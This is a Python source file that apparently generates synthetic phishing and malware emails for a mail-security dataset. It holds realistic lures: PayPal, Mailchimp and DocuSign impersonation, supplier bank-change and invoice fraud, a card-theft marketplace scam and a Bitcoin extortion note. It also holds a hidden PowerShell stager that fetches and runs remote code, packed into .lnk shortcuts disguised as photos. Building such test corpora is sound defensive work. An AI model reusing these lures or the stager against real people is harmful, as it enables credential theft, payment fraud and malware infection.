    html = f"""<div style="font-family:Helvetica,Arial,sans-serif;max-width:560px;margin:0 auto;color:#2c2e2f;">
<p style="font-size:28px;font-weight:bold;color:#003087;font-style:italic;">PayPal</p>
<p>Hello,</p>
<p>We noticed unusual activity on your PayPal Business account and have temporarily limited what you can do with it. You won't be able to send or withdraw money until you confirm your information.</p>
<p><b>Case ID:</b> PP-L-{num(seed + 'c', 9)}</p>
<p><a href="{url}" style="background:#0070ba;color:#fff;padding:10px 24px;border-radius:20px;text-decoration:none;">Resolve now</a></p>
<p>If we don't hear from you within 72 hours your account will remain limited.</p>
<p>PayPal</p></div>
"""
    own = [
        dkim(dom, "default", seed, sent, "Content-Type:MIME-Version:Message-ID:Subject:From:To:Date", c="relaxed/relaxed", q=True),
        f"Received: from [::1] (port={num(seed + 'pt', 5)} helo={dom})\n\tby gator4121.hostgator.com with esmtpa (Exim 4.96.2)\n"
        f"\t(envelope-from <wordpress@{dom}>)\n\tid 1txq{tok(seed + 'e', 2, ALNUM)}-{tok(seed + 'e2', 7, ALNUM)}-{tok(seed + 'e3', 2, ALNUM)}"
        f"\n\tfor mapleandmoss.studio@gmail.com;\n\t{dt(ago(sent, 1), 'central')}",
        f"Date: {dt(sent, 'utc')}",
        "To: mapleandmoss.studio@gmail.com",
        f"From: PayPal Business <wordpress@{dom}>",
        f"Subject: {subject}",
        f"Message-ID: <{tok(seed + 'mid', 43, ALNUM)}@{dom}>",
        "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
        "MIME-Version: 1.0",
        "X-AntiAbuse: This header was added to track abuse, please include it with any abuse report",
        "X-AntiAbuse: Primary Hostname - gator4121.hostgator.com",
        f"X-Get-Message-Sender-Via: gator4121.hostgator.com: authenticated_id: wordpress@{dom}",
    ]
    return mail("maple", "mapleandmoss.studio@gmail.com", "2025-03-25 04:12:33", a, seed, own, alt(plain, html, bnd_php(seed)))


@entry("b37-phish-mailchimp-suspended-sendgrid", "phish", "phishing",
       "'Mailchimp Compliance' says the agency's sending is suspended after abuse complaints, from lookalike "
       "mailchimp-compliance.net via SendGrid; tracked link leads to a Mailchimp/Intuit login clone")
def p_mailchimp():
    seed = "p37"
    t = utc("2024-03-19 19:44:02")
    sent = ago(t, 2)
    dom = "mailchimp-compliance.net"
    acct = "40118203"
    a = Auth("149.72.207.181", f"o2.ptr7716.{dom}", f"bounces+{acct}-{tok(seed + 'b', 4, HEX)}-jess=northboundsocial.com@em553.{dom}",
             dom, dkim=[(dom, "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], dmarc=None)
    click = sg_click(seed, acct)
    subject = "Your Mailchimp account has been suspended"
    plain = f"""Mailchimp

Account suspended: Northbound Social

Hi Jess,

Your most recent campaign generated an abuse complaint rate above our acceptable threshold. To protect
our sending infrastructure, we've suspended sending privileges on your account. Scheduled campaigns
and automations have been paused.

To reinstate your account, log in and complete the compliance review:
{click}

If we don't receive your review within 48 hours, the account will be closed and audience data may be
deleted.

- Mailchimp Compliance Team

(c) 2001-2024 Intuit Inc. All rights reserved. 405 N Angier Ave. NE, Atlanta, GA 30308 USA
"""
    html = f"""<html><body style="margin:0;background:#f6f6f4;">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:Graphik,Helvetica,Arial,sans-serif;"><tr><td align="center" style="padding:30px 0;">
<table width="560" style="background:#ffffff;" cellpadding="0" cellspacing="0">
<tr><td style="background:#ffe01b;padding:20px 32px;font-size:22px;font-weight:bold;color:#241c15;">mailchimp</td></tr>
<tr><td style="padding:26px 32px;font-size:15px;line-height:23px;color:#241c15;">
<h2 style="font-size:20px;margin-top:0;">Account suspended: Northbound Social</h2>
<p>Hi Jess,</p>
<p>Your most recent campaign generated an abuse complaint rate above our acceptable threshold. To protect our sending infrastructure, we've suspended sending privileges on your account. Scheduled campaigns and automations have been paused.</p>
<p><a href="{click}" style="background:#007c89;color:#fff;padding:12px 26px;text-decoration:none;">Complete compliance review</a></p>
<p>If we don't receive your review within 48 hours, the account will be closed and audience data may be deleted.</p>
<p>&mdash; Mailchimp Compliance Team</p></td></tr>
<tr><td style="padding:16px 32px;font-size:11px;color:#6e6e6e;">&copy; 2001-2024 Intuit Inc. All rights reserved. 405 N Angier Ave. NE, Atlanta, GA 30308 USA</td></tr></table></td></tr></table>
<img src="https://u{acct}.ct.sendgrid.net/wf/open?upn=u001.{tok(seed + 'op', 80, ALNUM + '-')}" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important;" /></body></html>
"""
    own = [
        dkim(dom, "s1", seed + "1", sent, "content-type:from:mime-version:subject:x-feedback-id:to:cc:content-type:from"
             "\n\t:subject:to"),
        dkim("sendgrid.info", "smtpapi", seed + "2", sent, "content-type:from:mime-version:subject:x-feedback-id:to:cc"
             ":content-type:from\n\t:subject:to"),
        f"Received: by recvd-{tok(seed + 'rv', 10, LOW)}-{tok(seed + 'rv2', 5, LOW)} with SMTP id recvd-{tok(seed + 'rv3', 22, ALNUM)}\n"
        f"\t{dt(ago(sent, 1))}",
        f"Received: from {acct} (unknown)\n\tby geopod-ismtpd-{num(seed + 'gp', 2)} (SG) with HTTP\n\tid {tok(seed + 'id', 22, ALNUM + '_-')}\n"
        f"\t{dt(ago(sent, 1))}",
        f"Date: {dt(sent)}",
        f"From: Mailchimp Compliance <compliance@{dom}>",
        "Mime-Version: 1.0",
        f"Message-ID: {mid_sendgrid(seed)}",
        f"Subject: {subject}",
        f"X-Feedback-ID: {acct}:SG",
        f"X-SG-EID: u001.{tok(seed + 'eid', 100, ALNUM + '/+')}",
        "To: jess@northboundsocial.com",
    ]
    return mail("north", "jess@northboundsocial.com", "2024-03-19 19:44:02", a, seed, own, alt(plain, html, bnd_hex(seed, 64)))


def docusign_auth(seed: str) -> Auth:
    return Auth("64.207.219.13", "mailna4.docusign.net", f"dse_NA4@docusign.net", "docusign.net",
                dkim=[("docusign.net", "mail", "pass")], p="reject")


def docusign_mail(seed: str, sent: datetime, sender_name: str, reply_to: str, rcpt_name: str, rcpt: str, subject: str,
                  message: str, envelope_doc: str) -> tuple[list[str], Multi]:
    env = f"{tok(seed + 'e1', 8, UHEX)}-{tok(seed + 'e2', 4, UHEX)}-{tok(seed + 'e3', 4, UHEX)}-{tok(seed + 'e4', 4, UHEX)}-{tok(seed + 'e5', 12, UHEX)}"
    url = (f"https://na4.docusign.net/Signing/EmailStart.aspx?a={tok(seed + 'a1', 8, LOW + '-')}-{tok(seed + 'a2', 4, HEX)}-"
           f"{tok(seed + 'a3', 4, HEX)}-{tok(seed + 'a4', 4, HEX)}-{tok(seed + 'a5', 12, HEX)}&etti=24&acct="
           f"{tok(seed + 'ac1', 8, HEX)}-{tok(seed + 'ac2', 4, HEX)}-{tok(seed + 'ac3', 4, HEX)}-{tok(seed + 'ac4', 4, HEX)}-"
           f"{tok(seed + 'ac5', 12, HEX)}&er={tok(seed + 'er1', 8, HEX)}-{tok(seed + 'er2', 4, HEX)}-{tok(seed + 'er3', 4, HEX)}-"
           f"{tok(seed + 'er4', 4, HEX)}-{tok(seed + 'er5', 12, HEX)}")
    plain = f"""{sender_name} sent you a document to review and sign.

REVIEW DOCUMENT
{url}

{sender_name}
{reply_to}

{message}

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with
others.

Alternate Signing Method
Visit Docusign.com, click 'Access Documents', and enter the security code:
{env.replace('-', '')}

About Docusign
Sign documents electronically in just minutes. It's safe, secure, and legally binding.

Questions about the Document?
If you need to modify the document or have questions about the details in the document, please reach out
to the sender by emailing them directly.

Report this email or read more about Declining to sign and Managing notifications.
"""
    msg_html = message.replace("&", "&amp;").replace("\n", "<br>")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="padding:2px;margin:0;background:#eaeaea;">
<table style="border-collapse:collapse;width:100%;max-width:640px;margin:0 auto;" align="center"><tr><td style="padding:10px 24px;"><img src="https://na4.docusign.net/Signing/Images/email/Email_Logo.png" alt="Docusign" style="border:none;width:116px;height:34px;"></td></tr>
<tr><td style="padding:0 24px 30px;"><table style="width:100%;background-color:#1e4ca1;color:#ffffff;" role="presentation"><tr><td style="padding:28px 36px 36px;text-align:center;">
<div style="font-family:Helvetica,Arial,sans-serif;font-size:16px;color:#ffffff;padding-bottom:16px;">{sender_name} sent you a document to review and sign.</div>
<table cellspacing="0" cellpadding="0" align="center"><tr><td align="center" style="font-size:15px;font-weight:bold;font-family:Helvetica,Arial,sans-serif;background-color:#ffc423;border-radius:2px;"><a href="{url}" style="color:#333333;text-decoration:none;display:inline-block;padding:0 24px;line-height:44px;"><span style="padding:0px;line-height:44px;">REVIEW DOCUMENT</span></a></td></tr></table>
</td></tr></table></td></tr>
<tr><td style="padding:0 24px 24px;background-color:#ffffff;font-family:Helvetica,Arial,sans-serif;font-size:15px;color:#333333;">
<p style="padding-top:20px;"><b>{sender_name}</b><br><a href="mailto:{reply_to}" style="color:#2463d1;">{reply_to}</a></p>
<p style="line-height:20px;">{msg_html}</p>
<p style="font-size:13px;color:#666666;">Document: {envelope_doc}</p></td></tr>
<tr><td style="padding:0 24px 12px;background-color:#ffffff;font-family:Helvetica,Arial,sans-serif;font-size:11px;color:#666666;line-height:14px;">
<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>
<b>Alternate Signing Method</b><br>Visit Docusign.com, click 'Access Documents', and enter the security code:<br>{env.replace('-', '')}<br><br>
<b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding. Whether you're in an office, at home, on-the-go -- or even across the globe -- Docusign provides a professional trusted solution for Digital Transaction Management&trade;.<br><br>
<b>Questions about the Document?</b><br>If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.<br><br>
<a href="https://protect.docusign.net/report-abuse?e=AUtomjpI{tok(seed + 'ab', 60, ALNUM)}&amp;lang=en" style="color:#2463d1;">Report this email</a> or read more about <a href="https://support.docusign.com/s/articles/How-do-I-decline-to-sign-a-document-Signing" style="color:#2463d1;">Declining to sign</a> and <a href="https://support.docusign.com/s/articles/How-can-I-manage-my-email-notifications" style="color:#2463d1;">Managing notifications</a>.</td></tr>
<tr><td style="padding:20px 24px;font-family:Helvetica,Arial,sans-serif;font-size:11px;color:#666666;">This message was sent to you by {sender_name} who is using the Docusign Electronic Signature Service. If you would rather not receive email from this sender you may contact the sender with your request.</td></tr></table></body></html>
"""
    own = [
        dkim("docusign.net", "mail", seed, sent, "Content-Type:MIME-Version:Message-ID:Subject:Reply-To:To:From:Date",
             c="relaxed/relaxed"),
        f"Received: from docusign.net (10.{num(seed + 'i1', 2)}.{num(seed + 'i2', 2)}.{num(seed + 'i3', 2)}) by mailna4.docusign.net\n"
        f" id {tok(seed + 'rid', 16, HEX)}; {dt(ago(sent, 1), 'pacific')}",
        f"Date: {dt(sent, 'pacific')}",
        f"From: {addr(sender_name + ' via Docusign', 'dse_NA4@docusign.net')}",
        f"Reply-To: {addr(sender_name, reply_to)}",
        f"To: {addr(rcpt_name, rcpt)}",
        f"Message-ID: <{tok(seed + 'mid', 32, HEX)}@docusign.net>",
        f"Subject: {enc(subject)}",
        "MIME-Version: 1.0",
        f"X-API-Host: na4.docusign.net",
        f"X-DocuSign-EnvelopeId: {env.lower()}",
    ]
    return own, alt(plain, html, f"----=_Part_{num(seed + 'p', 7)}_{num(seed + 'p2', 9)}.{epoch(sent)}{num(seed + 'p3', 3)}")


@entry("b37-phish-docusign-brand-partnership", "phish", "phishing",
       "Real DocuSign envelope (docusign.net passes everything) from a fake skincare brand's 'partnerships lead'; "
       "the sender message points to a Netlify 'campaign assets' page that asks for the Facebook business login")
def p_docusign_partnership():
    seed = "p36"
    t = utc("2025-10-21 18:30:26")
    sent = ago(t, 2)
    a = docusign_auth(seed)
    message = ("Hi Jess, great speaking with you yesterday. Please review and sign the partnership agreement for the "
               "Q4 Glow Theory launch (3 Reels + 6 Stories across your client pages, $8,500 flat fee).\n"
               "The creative brief and ad account assets are here: https://glowtheory-campaign-assets.netlify.app/brief\n"
               "You'll need to connect with your Facebook business login so we can add you as a partner on our "
               "Business Manager before kick-off.\nThanks! Olivia")
    subject = "Complete with Docusign: Glow Theory x Northbound Social - Partnership Agreement Q4.pdf"
    own, body = docusign_mail(seed, sent, "Olivia Grant", "olivia.grant@glowtheory-partners.com", "Jess Moreno",
                              "jess@northboundsocial.com", subject, message,
                              "Glow Theory x Northbound Social - Partnership Agreement Q4.pdf")
    return mail("north", "jess@northboundsocial.com", "2025-10-21 18:30:26", a, seed, own, body)


@entry("b37-phish-supplier-bank-change-lookalike", "phish", "phishing",
       "Dropshipping supplier impersonated from lookalike brightwlck-candle.com (l for i) on Namecheap Private Email: "
       "'our HSBC account is under audit', pay the PO balance to a new DBS account, with a PDF 'bank notice'")
def p_supplier_lookalike():
    seed = "p27"
    t = utc("2024-10-29 03:16:47")
    sent = ago(t, 4)
    dom = "brightwlck-candle.com"
    a = Auth("198.54.127.88", "mta-88.privateemail.com", f"cindy@{dom}", dom, dkim=[(dom, "default", "pass")],
             dmarc=None)
    letter = pdf_doc([
        "NINGBO BRIGHTWICK CANDLE CO., LTD.",
        "No. 88 Xingning Road, Yinzhou District, Ningbo, Zhejiang, China",
        "",
        "NOTICE OF CHANGE OF BANK ACCOUNT",
        "",
        "Dear valued customer,",
        "Due to the annual audit of our HSBC Hong Kong account, please remit all",
        "payments from 28 October 2024 to our new receiving account below:",
        "",
        "Beneficiary: BRIGHTWICK TRADING LIMITED",
        "Bank: DBS Bank (Hong Kong) Limited",
        "Account No.: 7880-2291-0457",
        "SWIFT: DHBKHKHH",
        "Bank address: 11th Floor, The Center, 99 Queen's Road Central, Hong Kong",
        "",
        "Payments to the old account will be returned. Thank you for your cooperation.",
        "Finance Department",
    ], "Bank notice", producer="WPS Writer", author="Administrator")
    subject = "Re: PO LF-2410 balance payment / updated bank information"
    plain = """Dear Maya,

Good day!

Thanks for your confirmation of the PO LF-2410 (1,200 pcs 8oz amber jar candles, Cedar & Fig and
Lavender Sage). The goods are ready and will be loaded on Nov 4 as planned.

Kindly note that our HSBC account is under annual audit this month and cannot receive foreign payments.
Please arrange the 70% balance USD 6,840.00 to our new account as per the attached notice, and send us
the bank slip when done so we can release the shipment on time.

Please do not pay to the old account, the money will be returned and delay the shipping.

Any question please contact me by email, I am out of office this week so phone is not convenient.

Best regards,
Cindy Zhao
Sales Manager
Ningbo Brightwick Candle Co., Ltd.
"""
    html = ("<div style=\"font-family:Calibri,Arial;font-size:14px;\">"
            + "<br>".join(l.replace("&", "&amp;") for l in plain.splitlines()) + "</div>\n")
    body = mixed(bnd_hex(seed + "m", 28), alt(plain, html, bnd_hex(seed + "a", 28)),
                 attachment("application/pdf", "Brightwick_bank_account_notice.pdf", letter))
    own = [
        dkim(dom, "default", seed, sent, "From:Reply-To:Subject:Date:Message-ID:To:MIME-Version:Content-Type"),
        f"Received: from [192.168.1.{num(seed + 'ip', 2)}] (unknown [103.152.220.{num(seed + 'ip2', 2)}])\n\t(Authenticated sender: "
        f"cindy@{dom})\n\tby mail.privateemail.com (Postfix) with ESMTPSA id {tok(seed + 'q', 14, UHEX + 'GHJK')}\n\tfor "
        f"<maya@lunaandfern.com>; {dt(ago(sent, 2), 'utc')}",
        f"From: Cindy Zhao <cindy@{dom}>",
        f"Subject: {subject}",
        f"Date: {dt(sent, 'china')}",
        f"Message-ID: <{tok(seed + 'mid', 8, UHEX)}.{tok(seed + 'mid2', 8, UHEX)}@{dom}>",
        "To: Maya Ellison <maya@lunaandfern.com>",
        "MIME-Version: 1.0",
        "X-Mailer: Foxmail 7.2.25.228[cn]",
    ]
    return mail("luna", "maya@lunaandfern.com", "2024-10-29 03:16:47", a, seed, own, body)


@entry("b37-phish-supplier-thread-hijack-iban-de", "phish", "phishing",
       "German thread hijack from the sawmill supplier's genuinely compromised IONOS mailbox: replies in the real "
       "invoice thread with a new Lithuanian IBAN and a Reply-To on a lookalike domain (supplier bank-change fraud)")
def p_thread_hijack():
    seed = "p28"
    t = utc("2025-04-08 07:58:31")
    sent = ago(t, 3)
    dom = "saegewerk-brenner.de"
    a = Auth("212.227.126.187", "mout.kundenserver.de", f"m.brenner@{dom}", dom, dkim=[], dmarc=None)
    inv = pdf_doc([
        "Saegewerk Brenner GmbH - Am Muehlbach 7 - 87700 Memmingen",
        "",
        "Holzwerk Lindner, Inh. Tobias Lindner",
        "Gewerbestrasse 14, 88299 Leutkirch",
        "",
        "RECHNUNG RE-2025-0412            Datum: 31.03.2025",
        "",
        "Pos 1  Eichenbohlen, luftgetrocknet, 52 mm, 1,8 m3    2.340,00 EUR",
        "Pos 2  Nussbaum Kantholz 60x60, 0,4 m3                  968,00 EUR",
        "Netto 3.308,00 EUR  zzgl. 19% MwSt 628,52 EUR",
        "Gesamtbetrag 3.936,52 EUR",
        "",
        "Zahlbar innerhalb 14 Tagen ohne Abzug auf:",
        "Kontoinhaber: Saegewerk Brenner GmbH",
        "IBAN: LT76 3250 0336 1920 4471  BIC: REVOLT21",
        "Amtsgericht Memmingen HRB 14402 - USt-IdNr. DE 129 884 310",
    ], "RE-2025-0412", producer="Microsoft: Print To PDF")
    subject = "AW: Rechnung RE-2025-0412 / Lieferung Eichenbohlen"
    plain = """Guten Morgen Herr Lindner,

anbei nochmals die korrigierte Rechnung RE-2025-0412.

Bitte beachten Sie, dass wir unsere Bankverbindung wegen einer Umstellung bei der Sparkasse geändert
haben. Bitte überweisen Sie den offenen Betrag von 3.936,52 EUR ab sofort ausschließlich auf das neue
Konto (siehe Rechnung). Zahlungen auf das alte Konto können derzeit nicht verbucht werden.

Kurze Bestätigung per Mail, wann die Zahlung rausgeht, wäre nett.

Mit freundlichen Grüßen
Markus Brenner

Sägewerk Brenner GmbH
Am Mühlbach 7, 87700 Memmingen
Tel. 08331 92 44 0

-----Ursprüngliche Nachricht-----
Von: Tobias Lindner <info@holzwerk-lindner.de>
Gesendet: Montag, 7. April 2025 16:42
An: m.brenner@saegewerk-brenner.de
Betreff: AW: Rechnung RE-2025-0412 / Lieferung Eichenbohlen

Hallo Herr Brenner,

die Bohlen sind gut angekommen, danke. Die Rechnung geht diese Woche raus.

Viele Grüße
Tobias Lindner
Holzwerk Lindner

-----Ursprüngliche Nachricht-----
Von: Markus Brenner <m.brenner@saegewerk-brenner.de>
Gesendet: Montag, 31. März 2025 11:05
An: info@holzwerk-lindner.de
Betreff: Rechnung RE-2025-0412 / Lieferung Eichenbohlen

Sehr geehrter Herr Lindner,

anbei erhalten Sie die Rechnung zur Lieferung vom 28.03. Zahlbar innerhalb 14 Tagen.

Mit freundlichen Grüßen
Markus Brenner
"""
    body = mixed(f"------------{tok(seed + 'b', 24, ALNUM)}",
                 text(plain, "plain", "quoted-printable"),
                 attachment("application/pdf", "RE-2025-0412_korrigiert.pdf", inv))
    own = [
        f"Received: from [192.168.178.{num(seed + 'ip', 2)}] ([84.17.48.{num(seed + 'ip2', 2)}]) by mrelayeu.kundenserver.de\n"
        f" (mreue{num(seed + 'mr', 3)}) with ESMTPSA (Nemesis) id 1M{tok(seed + 'n', 21, ALNUM)}; {dt(ago(sent, 1), 'cet')}",
        f"Message-ID: <{tok(seed + 'm1', 8, HEX)}-{tok(seed + 'm2', 4, HEX)}-{tok(seed + 'm3', 4, HEX)}-{tok(seed + 'm4', 4, HEX)}-"
        f"{tok(seed + 'm5', 12, HEX)}@{dom}>",
        f"Date: {dt(sent, 'cet')}",
        "MIME-Version: 1.0",
        "User-Agent: Mozilla Thunderbird",
        f"Subject: {subject}",
        "Content-Language: de-DE",
        "To: Tobias Lindner <info@holzwerk-lindner.de>",
        "References: <" + tok(seed + "r1", 32, HEX) + "@saegewerk-brenner.de>\n <" + tok(seed + "r2", 8, HEX)
        + "-" + tok(seed + "r3", 4, HEX) + "@holzwerk-lindner.de>",
        "In-Reply-To: <" + tok(seed + "r2", 8, HEX) + "-" + tok(seed + "r3", 4, HEX) + "@holzwerk-lindner.de>",
        f"From: {enc('Markus Brenner | Sägewerk Brenner GmbH')} <m.brenner@{dom}>",
        "Reply-To: Markus Brenner <m.brenner@saegewerk-brenner-gmbh.de>",
        f"X-Provags-ID: V03:K1:{tok(seed + 'pv', 60, ALNUM + '/+')}",
        f"X-UI-Out-Filterresults: notjunk:1;V03:K0:{tok(seed + 'ui', 12, ALNUM)}=;{tok(seed + 'ui2', 40, ALNUM + '/+')}",
    ]
    return mail("holz", "info@holzwerk-lindner.de", "2025-04-08 07:58:31", a, seed, own, body)


@entry("b37-phish-agency-invoice-lookalike", "phish", "phishing",
       "Invoice fraud impersonating the shop's social-media agency from lookalike copperleafdigital.co (real one is "
       ".co.uk) on its own M365 tenant: 'overdue' invoice PDF with a 'new' Starling account")
def p_agency_invoice():
    seed = "p29"
    t = utc("2025-09-30 10:12:05")
    sent = ago(t, 3)
    dom = "copperleafdigital.co"
    a = Auth("40.107.162.98", "mail-am6eur05on2098.outbound.protection.outlook.com", f"accounts@{dom}", dom,
             helo="EUR05-AM6-obe.outbound.protection.outlook.com", dkim=[(dom, "selector1", "pass")], dmarc=None)
    inv = pdf_doc([
        "COPPERLEAF DIGITAL LTD",
        "Unit 4, The Sidings, Bristol BS2 0JP",
        "",
        "INVOICE CLD-1187                 Date: 30/09/2025",
        "Bill to: Kestrel & Co Ceramics",
        "",
        "Social media management - September 2025        1,450.00",
        "Paid social ad spend management (Meta)            350.00",
        "Subtotal 1,800.00   VAT 20% 360.00   TOTAL GBP 2,160.00",
        "",
        "Outstanding from CLD-1161 (August)               2,160.00",
        "AMOUNT DUE                                    GBP 4,320.00",
        "",
        "PLEASE NOTE OUR NEW BANK DETAILS:",
        "Starling Bank - Account name: Copperleaf Digital",
        "Sort code 60-83-71   Account no. 44019268",
        "Payment terms: 7 days",
    ], "Invoice CLD-1187", producer="Microsoft: Print To PDF", author="Hannah Price")
    subject = "Invoice CLD-1187 + overdue CLD-1161"
    plain = """Hi Sam,

Hope you're well! Please find attached invoice CLD-1187 for September's social management.

I also noticed August's invoice (CLD-1161) is still showing as outstanding on our side, so I've added
it to this one - total due £4,320.00.

Just a heads-up that we've moved our business banking over to Starling, so please use the new details
on the invoice rather than the old Barclays account. Would you be able to get this paid by the end of
the week? Our accountant is chasing the quarter-end.

Many thanks,
Hannah

Hannah Price
Accounts & Operations
Copperleaf Digital
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><style type="text/css" style="display:none;"> P {{margin-top:0;margin-bottom:0;}} </style></head>
<body dir="ltr"><div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;color:rgb(0,0,0);">
{"".join(f"<div>{l.replace('£', '&pound;') or '<br>'}</div>" for l in plain.splitlines())}
</div></body></html>
"""
    body = mixed(bnd_outlook(seed + "m", "eur"), alt(plain, html, bnd_outlook(seed, "eur")),
                 attachment("application/pdf", "CLD-1187.pdf", inv))
    own = outlook_own(seed, sent, "utc", "Hannah Price <accounts@copperleafdigital.co>", "Sam Whitaker <sam@kestrelandco.co.uk>",
                      subject, dom, site="eur", attach=True, lang="en-GB")
    return mail("kestrel", "sam@kestrelandco.co.uk", "2025-09-30 10:12:05", a, seed, own, body)


@entry("b37-phish-wallapop-envio-falso-es", "phish", "phishing",
       "Spanish marketplace 'buyer' on Gmail says she already paid through 'Wallapop Envíos' and the seller must "
       "open a link to 'receive the payment' and print the label: fake-shipping/fake-payment card-theft scam")
def p_wallapop():
    seed = "p33"
    t = utc("2025-05-13 18:21:44")
    sent = ago(t, 3)
    sender = "lucia.ferrer.compras@gmail.com"
    a = Auth("209.85.128.170", "mail-wm1-f170.google.com", sender, "gmail.com", dkim=[("gmail.com", "20230601", "pass")],
             p="none", sp="quarantine")
    url = f"https://wallapop-envios.cobro-seguro.es/pedido/{num(seed + 'p', 9)}?lang=es"
    subject = "Jarrón de cerámica - pago realizado"
    plain = f"""Hola! Soy Lucía, te escribí por Instagram por el jarrón de cerámica verde oliva 😊

Ya he hecho el pago por Wallapop Envíos (65 € + envío), el dinero ya está reservado a tu nombre. Para
recibirlo solo tienes que entrar en este enlace, poner la tarjeta donde quieres cobrar y te sale la
etiqueta de envío para llevarlo a Correos:

{url}

Es que lo necesito para un regalo el sábado, ¿podrías enviarlo mañana? Muchas gracias!!

Lucía
"""
    html = ("<div dir=\"ltr\">" + "".join(f"<div>{l or '<br>'}</div>" for l in plain.replace(url, f'<a href="{url}">{url}</a>').splitlines())
            + "</div>\n")
    own = gmail_own(seed, sent, "cet", "Lucia Ferrer <lucia.ferrer.compras@gmail.com>", "hola@casaolivo.es", subject,
                    "casaolivo.es")
    return mail("olivo", "hola@casaolivo.es", "2025-05-13 18:21:44", a, seed, own, alt(plain, html, bnd_gmail(seed)))


@entry("b37-phish-review-bombing-extortion", "phish", "phishing",
       "Proton Mail extortion: pay $600 in Bitcoin within 72 hours or the sender posts dozens of one-star reviews on "
       "Google, Etsy and Trustpilot and files fake chargebacks against the shop")
def p_review_extortion():
    seed = "p34"
    t = utc("2025-08-04 11:07:52")
    sent = ago(t, 2)
    a = Auth("185.70.43.22", "mail-4322.protonmail.ch", "reputationfix@proton.me", "proton.me",
             dkim=[("proton.me", "protonmail", "pass")], p="quarantine")
    wallet = "bc1q" + tok(seed + "w", 38, "023456789acdefghjklmnpqrstuvwxyz")
    subject = "Luna & Fern - read this before Thursday"
    plain = f"""Hello,

We are a team that manages online reputation. We have 70+ aged Google and Etsy buyer accounts and we
have been asked to post negative reviews on your business. We have already prepared them.

If you do not want this to happen, send $600 in Bitcoin to the address below within 72 hours:

{wallet}

If we don't receive payment:
- 60 one star reviews on your Google Business profile ("received broken candles", "scam store")
- 1 star reviews on your Etsy shop and Trustpilot
- chargebacks on recent orders reported as fraud

Your rating will go from 4.9 to below 3 in one week and Google will stop showing your ads. Removing fake
reviews takes months, we know this.

After payment you will not hear from us again and we will not accept the job against you. Do not reply
with threats or to say you will report this, it does not help you.

You have 72 hours.
"""
    html = ("<div style=\"font-family: Arial, sans-serif; font-size: 14px;\">"
            + "".join(f"<div>{l.replace('<', '&lt;') or '<br>'}</div>" for l in plain.splitlines())
            + "</div><div style=\"font-family: Arial, sans-serif; font-size: 14px;\"><br></div>\n")
    own = [
        dkim("proton.me", "protonmail", seed, sent, "Date:To:From:Subject:Message-ID:Feedback-ID:From:To:Cc:Date:\n\t "
             "Subject:Reply-To:Feedback-ID:Message-ID:BIMI-Selector:\n\t List-Unsubscribe:List-Unsubscribe-Post",
             c="relaxed/relaxed", q=True),
        f"Date: {dt(sent)}",
        "To: hello@lunaandfern.com",
        "From: Reputation Team <reputationfix@proton.me>",
        f"Subject: {subject}",
        f"Message-ID: <{tok(seed + 'pm', 60, ALNUM + '_-')}=@proton.me>",
        f"Feedback-ID: {num(seed + 'fid', 8)}:user:proton",
        f"X-Pm-Message-ID: {tok(seed + 'pmid', 40, HEX)}",
        "MIME-Version: 1.0",
    ]
    return mail("luna", "hello@lunaandfern.com", "2025-08-04 11:07:52", a, seed, own,
                alt(plain, html, f"b1=_{tok(seed + 'b', 42, ALNUM)}"))


# ---------------------------------------------------------------------------------------------
# malware delivery

PS_STAGER = "-NoP -W Hidden -Ep Bypass -c \"$u='https://cdn-media-preview.com/i/{p}';iex (New-Object Net.WebClient).DownloadString($u)\""


@entry("b37-phish-buyer-product-photos-lnk", "phish", "malware",
       "Gmail 'wholesale buyer' asks for a bulk quote and attaches 'Product_Photos_Reference.zip' holding .jpg.lnk "
       "shortcuts that start hidden PowerShell and download a payload")
def m_photos_lnk():
    seed = "m1"
    t = utc("2025-03-11 14:36:20")
    sent = ago(t, 3)
    sender = "ameliabrooks.interiors@gmail.com"
    a = Auth("209.85.218.43", "mail-ej1-f43.google.com", sender, "gmail.com", dkim=[("gmail.com", "20230601", "pass")],
             p="none", sp="quarantine")
    ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    members = [(f"Product_Photos_Reference/IMG_40{21 + k}.jpg.lnk", files.lnk_shortcut(ps, PS_STAGER.format(p=f"ph{k}")))
               for k in range(3)]
    members.append(("Product_Photos_Reference/IMG_4018.jpg", files.photo_jpeg(37, (320, 240))))
    archive = files.zip_archive(members)
    subject = "Wholesale inquiry - 300 units for boutique opening"
    plain = """Hi there,

I'm Amelia, I'm opening a home & gift boutique in Charleston next month and I love your candles. I'd
like to place a wholesale order of around 300 units for the opening.

I've attached photos of the jar styles and labels we are looking for (some are from another supplier
we used before), could you check if you can do similar and send me your wholesale price list and lead
time?

Looking forward to working with you.

Best,
Amelia Brooks
Brooks & Bloom Home
"""
    html = ("<div dir=\"ltr\">" + "".join(f"<div>{l or '<br>'}</div>" for l in plain.replace("&", "&amp;").splitlines()) + "</div>\n")
    body = mixed(bnd_gmail(seed + "m"), alt(plain, html, bnd_gmail(seed)),
                 Leaf("application/zip", archive, "base64", '; name="Product_Photos_Reference.zip"',
                      'attachment; filename="Product_Photos_Reference.zip"', [f"X-Attachment-Id: f_{tok(seed + 'att', 9, LOW)}",
                                                                              f"Content-ID: <f_{tok(seed + 'att', 9, LOW)}>"]))
    own = gmail_own(seed, sent, "eastern", "Amelia Brooks <ameliabrooks.interiors@gmail.com>", "hello@lunaandfern.com",
                    subject, "lunaandfern.com")
    return mail("luna", "hello@lunaandfern.com", "2025-03-11 14:36:20", a, seed, own, body)


@entry("b37-phish-buyer-order-list-js-de", "phish", "malware",
       "German bulk-order inquiry from a newly registered 'trading' domain with 'Bestellliste_Q2_2024.zip' containing "
       "an obfuscated JScript file (WSH downloader) posing as the order list")
def m_order_js():
    seed = "m2"
    t = utc("2024-05-07 09:04:58")
    sent = ago(t, 3)
    dom = "nordic-interiors-trade.com"
